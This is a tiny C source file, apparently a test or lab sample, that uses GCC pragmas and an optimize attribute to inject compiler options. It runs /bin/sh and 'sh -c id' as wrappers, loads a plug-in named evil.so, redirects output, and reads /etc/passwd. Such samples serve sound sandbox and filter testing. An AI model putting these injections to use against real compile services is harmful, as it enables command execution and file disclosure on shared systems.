/* Options for the compiler, out of the source: to run another program, to load a plug-in, to write elsewhere. */
#pragma GCC optimize ("-wrapper,/bin/sh")
#pragma GCC optimize ("fplugin=/lab/evil.so")
#pragma GCC optimize ("o/tmp/elsewhere")
#pragma GCC target ("@/etc/passwd")
#pragma GCC push_options
__attribute__((optimize("-wrapper", "sh,-c,id"))) int evil(void) { return 1; }
#pragma GCC pch_preprocess "/etc/passwd"
int main(void) { return evil(); }
